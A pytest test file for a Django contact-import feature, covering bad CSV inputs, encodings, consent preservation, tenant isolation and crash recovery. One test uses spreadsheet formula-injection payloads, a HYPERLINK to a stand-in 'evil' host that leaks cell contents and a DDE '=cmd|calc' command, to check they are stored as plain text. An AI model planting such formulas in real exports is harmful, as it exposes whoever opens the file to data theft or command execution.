"""Importing contact files: every bad input has its answer, and consent is never raised."""

import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.core.files.storage import default_storage

from contacts.consent import record_consent, suppress
from contacts.imports import running, uploading
from contacts.imports.starting import Choices, cancel, resume, start
from contacts.imports.uploading import preview, upload
from contacts.models import (
    ConsentEntry,
    Contact,
    ContactField,
    ContactImport,
    ImportProblem,
    Suppression,
)
from contacts.tags import tags_of
from core.errors import Invalid
from events.models import Event

CASES = [
    json.loads(line)
    for line in (Path(__file__).parent.parent / "cases/bad_inputs_csv.jsonl")
    .read_text()
    .splitlines()
]
# Each case has a test here, named by its id.
TESTED = {}


def case(*ids):
    def mark(test):
        TESTED.update(dict.fromkeys(ids, test.__name__))
        return test

    return mark


@pytest.fixture(autouse=True)
def _files(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def uploaded(content, now, name="contacts.csv"):
    raw = content.encode() if isinstance(content, str) else content
    return upload(file=io.BytesIO(raw), name=name, now=now)


def finish(job, now, rounds=50):
    while running.has_open_import() and rounds:
        running.continue_import(now)
        rounds -= 1
    job.refresh_from_db()
    return job


def imported(content, now, **choices):
    job = uploaded(content, now)
    mapping = choices.pop("mapping", None) or job.mapping
    start(job=job, choices=Choices(mapping=mapping, **choices), now=now)
    return finish(job, now)


def problems(job):
    return list(job.problems.order_by("line").values_list("line", "column", "code"))


def counts(job):
    return {name: number for name, number in job.counts.items() if number}


def refused(content, now):
    before = ContactImport.objects.count()
    with pytest.raises(Invalid) as refusal:
        uploaded(content, now)
    assert ContactImport.objects.count() == before
    return refusal.value


def test_every_case_has_a_test():
    assert {each["id"] for each in CASES} == set(TESTED)


@case("BI002")
def test_a_header_alone_is_refused(now):
    refusal = refused("email,name\n", now)
    assert (refusal.code, refusal.message) == ("csv_no_rows", "Only a header row was found.")
    assert refused("", now).code == "csv_no_rows"
    assert refused("\n\n", now).code == "csv_no_rows"


@case("BI006")
def test_windows_text_is_recognised_and_shown_decoded(now):
    job = uploaded("email,first name\nj@example.com,José\n".encode("cp1252"), now)
    assert job.encoding == "cp1252"
    assert preview(job) == [["j@example.com", "José"]]
    refusal = refused(b"email,name\na@example.com,A\nb@example.com,\x81\xff\n", now)
    assert refusal.code == "csv_encoding"
    assert "Line 3" in refusal.message


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_other_encodings(now, encoding):
    job = imported("email,first name\nj@example.com,Zoë Łuka\n".encode(encoding), now)
    assert job.encoding == encoding
    assert Contact.objects.get().first_name == "Zoë Łuka"


@case("BI008")
def test_one_column(now):
    job = imported("email\na@x.com\nb@x.com\n", now)
    assert (job.delimiter, counts(job)) == (",", {"created": 2})


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_delimiters_are_counted_over_lines(now, delimiter):
    lines = [["email", "note"], ["a@example.com", '"one, two; three | four"']]
    text = "\n".join(delimiter.join(line) for line in lines)
    assert uploaded(text, now).delimiter == delimiter


@case("BI009")
def test_old_mac_line_ends(now):
    job = imported("email\tfirst name\ra@example.com\tAda\rb@example.com\tBo\r", now)
    assert counts(job) == {"created": 2}
    assert set(Contact.objects.values_list("first_name", flat=True)) == {"Ada", "Bo"}


@case("BI010")
def test_a_quote_in_the_wrong_place_costs_one_line(now):
    job = imported('email,name\n"ada@example.com,"Ada\nbo@example.com,Bo\n', now)
    assert problems(job) == [(2, "", "csv_quote")]
    assert counts(job) == {"created": 1, "failed": 1}
    assert Contact.objects.get().email == "bo@example.com"


def test_a_quote_never_closed_costs_one_line_too(now):
    rows = "".join(f"p{n}@example.com,P\n" for n in range(300))
    job = imported(f'email,name\nx@example.com,"open\n{rows}', now)
    assert problems(job) == [(2, "", "csv_quote")]
    assert counts(job) == {"created": 300, "failed": 1}


def test_line_breaks_inside_quotes_are_one_cell(now):
    ContactField.objects.create(key="address", label="Address")
    job = imported('email,address\na@example.com,"1 Road\nTown"\nnonsense,x\n', now)
    assert Contact.objects.get().fields == {"address": "1 Road\nTown"}
    assert problems(job) == [(4, "email", "invalid_email")]


@case("BI012")
def test_a_cell_too_long_costs_one_line(now):
    job = imported(f"email,name\na@example.com,{'x' * 140_000}\nb@example.com,Bo\n", now)
    assert problems(job) == [(2, "", "field_too_long")]
    assert Contact.objects.get().email == "b@example.com"
    job = imported(f"email,name\na@example.com,{'x' * 2_500_000}\nc@example.com,Cy\n", now)
    assert problems(job) == [(2, "", "field_too_long")]
    assert set(Contact.objects.values_list("email", flat=True)) == {
        "b@example.com",
        "c@example.com",
    }


@case("BI015")
def test_missing_cells_are_empty_and_extra_ones_an_error(now):
    job = imported("email,first name\na@x.com\nb@x.com,Bo,extra\nc@x.com,Cy,,\n", now)
    assert counts(job) == {"created": 2, "failed": 1}
    assert problems(job) == [(3, "", "csv_long_row")]
    assert Contact.objects.get(email="a@x.com").first_name == ""


@case("BI018")
def test_too_many_rows_are_refused_before_anything_is_written(now, settings):
    settings.IMPORT_ROWS_MAX = 3
    refusal = refused("email\na@x.com\nb@x.com\nc@x.com\nd@x.com\n", now)
    assert refusal.code == "csv_too_many_rows"
    assert "4" in refusal.message
    assert "3" in refusal.message
    assert uploaded("email\na@x.com\nb@x.com\nc@x.com\n", now).total_rows == 3


@case("BI020", "BI021")
@pytest.mark.parametrize(
    "content", [b"PK\x03\x04\x14\x00\x08", b"\xd0\xcf\x11\xe0\xa1", b"%PDF-1.7", b"a,b\x00\x01\n"]
)
def test_what_is_no_text_is_refused_whatever_its_name(now, content):
    refusal = refused(content, now)
    assert refusal.code == "csv_not_text"
    assert "Save as CSV first." in refusal.message


def test_a_file_too_large_is_refused(now, settings):
    settings.IMPORT_BYTES_MAX = 10
    assert refused("email\na@example.com\n", now).code == "csv_too_large"


@case("BI025", "BI027")
def test_formulas_come_in_as_text(now):
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    cell = '"' + formula.replace('"', '""') + '"'
    job = imported(f"email,first name\n=cmd|calc@x.com,{cell}\n", now)
    assert counts(job) == {"created": 1}
    person = Contact.objects.get()
    assert (person.email, person.first_name) == ("=cmd|calc@x.com", formula)


@case("BI029")
@pytest.mark.parametrize("wording", ["", "I agree to get the newsletter."])
def test_nobody_is_resubscribed(contact, now, wording):
    ada = contact("ada@example.com")
    record_consent(contact_ids=[ada.pk], action="unsubscribed", source="one_click", now=now)
    job = imported("email,status\nAda@example.com,subscribed\n", now, wording=wording)
    ada.refresh_from_db()
    assert ada.email_consent == "unsubscribed"
    assert counts(job) == {"unchanged": 1, "kept_unsubscribed": 1}
    assert ConsentEntry.objects.count() == 1


@case("BI030")
def test_an_erased_person_is_not_stored_again(now):
    suppress(addresses=["ada@example.com"], reason="erased", now=now)
    job = imported("email,first name\nADA@example.com,Ada\nbo@example.com,Bo\n", now)
    assert problems(job) == [(2, "", "erased_contact")] or problems(job) == [
        (2, "email", "erased_contact")
    ]
    assert job.problems.get().row == []
    assert list(Contact.objects.values_list("email", flat=True)) == ["bo@example.com"]


MAILCHIMP = "Email Address,First Name,Last Name,TAGS,LEID,EUID"


@case("BI031")
def test_mailchimp_tags(now):
    job = imported(f'{MAILCHIMP}\na@example.com,Ada,L,"""VIP"",""Blog, news""",1,x\n', now)
    assert job.origin == "mailchimp"
    person = Contact.objects.get()
    assert (person.first_name, person.last_name) == ("Ada", "L")
    assert tags_of([person.pk]) == {person.pk: ["Blog, news", "VIP"]}


@case("BI032")
def test_mailchimps_unsubscribed_are_unsubscribed_at_that_time(contact, now):
    contact("c@example.com", email_consent="subscribed")
    header = "Email Address,First Name,UNSUB_TIME,LEID,EUID"
    job = imported(
        f"{header}\na@example.com,Ada,2024-05-06 07:08:09,1,x\nb@example.com,Bo,,2,y\n"
        "c@example.com,Cy,2024-05-06 07:08:09,3,z\n",
        now,
        wording="Even when somebody says they agreed.",
    )
    assert counts(job) == {"created": 2, "updated": 1}
    assert not Contact.objects.mailable().exists()
    assert set(Contact.objects.values_list("email_consent", flat=True)) == {"unsubscribed"}
    ada = Contact.objects.get(email="a@example.com")
    entry = ConsentEntry.objects.get(contact_id=ada.pk)
    assert (entry.action, entry.source, entry.detail, entry.wording) == (
        "unsubscribed",
        "import",
        "contacts.csv",
        None,
    )
    assert entry.occurred_at == datetime(2024, 5, 6, 7, 8, 9, tzinfo=UTC)


def test_mailchimps_cleaned_are_never_written_to(now):
    imported("Email Address,CLEAN_TIME,LEID,EUID\na@example.com,2024-05-06 07:08:09,1,x\n", now)
    assert Suppression.objects.values_list("value", "reason").get() == ("a@example.com", "bounced")


@case("BI034")
def test_klaviyo_consent(now):
    job = imported(
        "Email,First Name,Email Marketing Consent,Email Marketing Consent Timestamp\n"
        "a@example.com,Ada,NEVER_SUBSCRIBED,\n"
        "b@example.com,Bo,SUBSCRIBED,2025-01-02 03:04:05+00:00\n"
        "c@example.com,Cy,UNSUBSCRIBED,\n",
        now,
        wording="Yes, send me the newsletter.",
    )
    assert job.origin == "klaviyo"
    assert dict(Contact.objects.values_list("email", "email_consent")) == {
        "a@example.com": "none",
        "b@example.com": "subscribed",
        "c@example.com": "unsubscribed",
    }
    assert Contact.objects.mailable().count() == 1
    entry = ConsentEntry.objects.get(action="subscribed")
    assert entry.wording.text == "Yes, send me the newsletter."
    assert entry.occurred_at == datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC)
    # an import confirms no consent: nothing is told to journeys
    assert not Event.objects.exists()


def test_without_a_declared_consent_nobody_is_subscribed(now):
    imported("email,status\na@example.com,subscribed\nb@example.com,unsubscribed\n", now)
    assert dict(Contact.objects.values_list("email", "email_consent")) == {
        "a@example.com": "none",
        "b@example.com": "unsubscribed",
    }


def test_a_declared_consent_subscribes_the_new_and_the_never_asked(contact, now):
    contact("a@example.com")
    contact("p@example.com", email_consent="pending")
    job = imported("email\na@example.com\nb@example.com\np@example.com\n", now, wording="Yes.")
    assert dict(Contact.objects.values_list("email", "email_consent")) == {
        "a@example.com": "subscribed",
        "b@example.com": "subscribed",
        "p@example.com": "pending",
    }
    assert counts(job) == {"created": 1, "updated": 1, "unchanged": 1}
    assert ConsentEntry.objects.filter(source="import", action="subscribed").count() == 2


@case("BI035")
def test_what_is_no_date_costs_its_line(now):
    ContactField.objects.create(key="birthday", label="Birthday", type="date")
    bad = ["31/02/2026", "2026-13-01", "0000-00-00", "yesterday"]
    rows = [f"p{n}@example.com,{each}" for n, each in enumerate([*bad, "03/04/1990"])]
    job = imported("\n".join(["email,birthday", *rows]), now, date_order="dmy")
    assert problems(job) == [(n, "birthday", "bad_date") for n in (2, 3, 4, 5)]
    assert "31/02/2026" in job.problems.get(line=2).message
    assert "31/12/2026" in job.problems.get(line=2).message
    assert Contact.objects.get().fields == {"birthday": "1990-04-03"}


@case("BI036")
def test_the_order_of_dates_is_asked_for(now):
    ContactField.objects.create(key="birthday", label="Birthday", type="date")
    job = uploaded("email,birthday\na@example.com,03/04/1990\n", now)
    with pytest.raises(Invalid) as refusal:
        start(job=job, choices=Choices(mapping=job.mapping), now=now)
    assert [p.code for p in refusal.value.problems] == ["no_date_order"]
    job.refresh_from_db()
    assert (job.status, Contact.objects.count()) == ("uploaded", 0)


@case("BI039")
def test_the_same_file_twice_at_once_is_one_import(now):
    content = "email\na@example.com\n"
    first, second = uploaded(content, now), uploaded(content, now)
    start(job=first, choices=Choices(mapping=first.mapping), now=now)
    with pytest.raises(Invalid) as refusal:
        start(job=second, choices=Choices(mapping=second.mapping), now=now)
    assert refusal.value.code == "import_running"
    # and pressing the button twice is pressing it once
    with pytest.raises(Invalid):
        start(job=first, choices=Choices(mapping=first.mapping), now=now)
    finish(first, now)
    assert Contact.objects.count() == 1
    second.refresh_from_db()
    assert second.status == "uploaded"


@case("BI040")
def test_another_workspaces_import_is_not_there(now, globex, acme_client):
    from django.db import connection
    from django_tenants.utils import tenant_context

    with tenant_context(globex):
        theirs = uploaded("email\na@example.com\n", now)
    for page in ("/", "/progress/", "/problems/", "/problems.csv"):
        assert acme_client.get(f"/contacts/imports/{theirs.pk}{page}").status_code == 404
    answer = acme_client.post(f"/contacts/imports/{theirs.pk}/", {"column-0": "email"})
    assert answer.status_code == 404
    connection.set_tenant(globex)
    theirs.refresh_from_db()
    assert theirs.status == "uploaded"


def test_columns_are_matched_by_name_and_can_become_fields(now):
    job = uploaded("E-mail;Nome;Cognome;Taglia\na@example.com;Ada;L;41\n", now)
    assert job.mapping == {"0": "email", "1": "first_name", "2": "last_name"}
    mapping = {**job.mapping, "3": "new:number"}
    start(job=job, choices=Choices(mapping=mapping, tag=" Fair "), now=now)
    finish(job, now)
    person = Contact.objects.get()
    assert person.fields == {"taglia": 41}
    assert tags_of([person.pk]) == {person.pk: ["Fair"]}
    field = ContactField.objects.get()
    assert (field.key, field.label, field.type) == ("taglia", "Taglia", "number")


@pytest.mark.parametrize(
    ("mapping", "code"),
    [
        ({}, "no_identifier"),
        ({"0": "email", "1": "email"}, "target_twice"),
        ({"0": "email", "1": "shoe"}, "bad_target"),
        ({"0": "email", "1": "field:nobody"}, "bad_target"),
        ({"0": "email", "1": "new:magic"}, "bad_target"),
    ],
)
def test_a_bad_mapping_is_told(now, mapping, code):
    job = uploaded("a,b\n1,2\n", now)
    with pytest.raises(Invalid) as refusal:
        start(job=job, choices=Choices(mapping=mapping), now=now)
    assert [p.code for p in refusal.value.problems] == [code]


def test_doubles_are_one_person_in_the_order_of_lines(now, monkeypatch):
    text = (
        "email,first name,tags\nada@example.com,,a\nbo@example.com,Bo,\n"
        "ADA@example.com,Ada,b\nada@example.com,Ada,\n"
    )
    for batch in (1, 2, 5000):
        monkeypatch.setattr(running, "BATCH", batch)
        Contact.objects.all().delete()
        job = imported(text, now)
        assert counts(job) == {"created": 2, "updated": 1, "unchanged": 1}, batch
        ada = Contact.objects.get(email="ada@example.com")
        assert (ada.first_name, tags_of([ada.pk])) == ("Ada", {ada.pk: ["a", "b"]})


def test_again_is_nothing_new(now):
    text = "email,first name,tags\n" + "".join(f"p{n}@example.com,P{n},x\n" for n in range(20))
    assert counts(imported(text, now)) == {"created": 20}
    assert counts(imported(text, now)) == {"unchanged": 20}


def test_an_id_and_an_address_of_two_people_cost_their_line(contact, now):
    contact("ada@example.com")
    contact(None, external_id="7")
    text = "email,customer id,first name\nada@example.com,7,X\nbo@example.com,8,Bo\n"
    job = imported(text, now)
    assert [(line, code) for line, _c, code in problems(job)] == [(2, "identity_conflict")]
    assert Contact.objects.get(email="bo@example.com").external_id == "8"
    assert not Contact.objects.filter(first_name="X").exists()


def test_an_id_finds_its_contact(contact, now):
    bo = contact(None, external_id="7")
    job = imported("email,customer id,first name\nbo@example.com,7,Bo\n", now)
    bo.refresh_from_db()
    assert (bo.email, bo.first_name, counts(job)) == ("bo@example.com", "Bo", {"updated": 1})


def test_awkward_cells_arrive_as_they_are(now):
    ContactField.objects.create(key="note", label="Note")
    text = 'email,first name,note\n  a@example.com ,"  A\tda ","back\\slash \\N ""q"" \x07é"\n'
    imported(text, now)
    person = Contact.objects.get()
    assert (person.email, person.first_name) == ("a@example.com", "A da")
    assert person.fields == {"note": 'back\\slash \\N "q" é'}


def test_a_cancelled_import_keeps_what_it_did_and_can_go_on(now, monkeypatch):
    monkeypatch.setattr(running, "BATCH", 2)
    job = uploaded("email\n" + "".join(f"p{n}@example.com\n" for n in range(5)), now)
    start(job=job, choices=Choices(mapping=job.mapping), now=now)
    running.continue_import(now)
    assert cancel(job=job, now=now) is True
    finish(job, now)
    assert (job.status, job.next_line, Contact.objects.count()) == ("cancelled", 4, 2)
    assert cancel(job=job, now=now) is False
    assert resume(job=job, now=now) is True
    finish(job, now)
    assert (job.status, counts(job), Contact.objects.count()) == ("done", {"created": 5}, 5)
    assert resume(job=job, now=now) is False


def test_the_file_is_gone_when_the_import_is_done(now, django_capture_on_commit_callbacks):
    job = uploaded("email\na@example.com\n", now)
    name = job.file.name
    assert default_storage.exists(name)
    with django_capture_on_commit_callbacks(execute=True):
        start(job=job, choices=Choices(mapping=job.mapping), now=now)
        finish(job, now)
    assert (job.status, bool(job.file)) == ("done", False)
    assert not default_storage.exists(name)


def test_a_lost_file_fails_in_words(now):
    job = uploaded("email\na@example.com\n", now)
    start(job=job, choices=Choices(mapping=job.mapping), now=now)
    default_storage.delete(job.file.name)
    finish(job, now)
    assert (job.status, job.error) == ("failed", "The uploaded file is gone. Upload it again.")


def test_a_crash_between_batches_changes_nothing(now, monkeypatch):
    # given a clean run to compare with
    text = "email,first name,tags\n" + "".join(
        f"p{n % 40}@example.com,N{n},t{n % 3}\n" if n % 7 else f"bad{n},x,\n" for n in range(100)
    )
    monkeypatch.setattr(running, "BATCH", 9)
    clean = imported(text, now)
    expected = (clean.counts, problems(clean), snapshot())
    Contact.objects.all().delete()
    ImportProblem.objects.all().delete()
    # when every second batch dies after all its statements
    job = uploaded(text, now)
    start(job=job, choices=Choices(mapping=job.mapping), now=now)
    report, calls = running._report, []

    def crash_sometimes(*args):
        report(*args)
        calls.append(1)
        if len(calls) % 2:
            raise KeyboardInterrupt

    monkeypatch.setattr(running, "_report", crash_sometimes)
    while running.has_open_import():
        try:
            running.continue_import(now)
        except KeyboardInterrupt:
            continue
    # then nothing is missing and nothing is doubled
    job.refresh_from_db()
    assert len(calls) > 12
    assert (job.counts, problems(job), snapshot()) == expected


def snapshot():
    tags = tags_of(list(Contact.objects.values_list("pk", flat=True)))
    return sorted((c.email, c.first_name, tags.get(c.pk)) for c in Contact.objects.all())


def test_encodings_have_names_for_people():
    assert set(uploading.ENCODINGS) >= {"utf-8", "utf-8-sig", "utf-16", "cp1252"}


def test_a_file_thrown_away_is_gone(now, django_capture_on_commit_callbacks):
    job = uploaded("email\na@example.com\n", now)
    name = job.file.name
    with django_capture_on_commit_callbacks(execute=True):
        assert cancel(job=job, now=now) is True
    job.refresh_from_db()
    assert (job.status, bool(job.file)) == ("cancelled", False)
    assert not default_storage.exists(name)
    assert resume(job=job, now=now) is False
